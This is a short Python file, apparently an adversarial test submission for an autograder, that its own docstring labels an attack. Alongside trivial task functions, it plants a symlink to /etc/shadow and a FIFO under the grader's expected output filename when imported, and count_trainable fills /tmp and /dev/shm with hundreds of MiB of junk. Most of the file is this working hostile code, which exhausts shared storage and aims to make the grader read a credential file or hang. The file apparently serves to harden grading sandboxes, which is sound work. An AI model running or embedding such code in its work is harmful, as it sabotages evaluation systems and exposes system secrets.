"""ATTACK: leave hundreds of MiB behind in /tmp and /dev/shm, and plant a symlink and a FIFO where the grader
once read the captured output by path."""
import os

MARKER = "agkit-fill"


def _fill(folder):
    for index in range(80):  # 80 x 4 MiB: as much as the file-size limit lets each file be
        try:
            with open(os.path.join(folder, f"{MARKER}-{index}"), "wb") as file:
                file.write(b"\0" * (4 << 20))
        except OSError:
            return


def _plant():
    for name, make in (("captured-output.txt", lambda p: os.symlink("/etc/shadow", p)),
                       ("captured-output.fifo", os.mkfifo)):
        for folder in (".", os.environ.get("TMPDIR", "."), "/tmp"):
            try:
                make(os.path.join(folder, name))
            except OSError:
                pass


_plant()


def predict_requires_grad(flags):
    return any(flags)


def count_trainable(model):
    for folder in ("/tmp", "/dev/shm"):
        _fill(folder)
    print("filled")
    return sum(p.numel() for p in model.parameters() if p.requires_grad)
